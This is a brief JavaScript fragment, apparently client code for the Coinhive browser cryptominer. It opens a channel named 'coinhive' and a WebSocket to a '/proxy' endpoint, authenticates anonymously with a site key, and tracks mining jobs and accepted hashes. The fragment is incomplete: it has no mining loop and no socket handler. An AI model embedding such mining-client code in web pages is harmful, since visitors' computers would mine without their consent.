var only = new BroadcastChannel('coinhive'), jobs = {};
function send(k) { sock.send(JSON.stringify({type: 'auth', params: {site_key: k, type: 'anonymous', user: null, goal: 0}})); }
function got(m) { if (m.type === 'job') jobs[m.params.job_id] = m.params; if (m.type === 'hash_accepted') n = m.params.hashes; }
var sock = new WebSocket('wss://' + location.host + '/proxy'), n = 0;
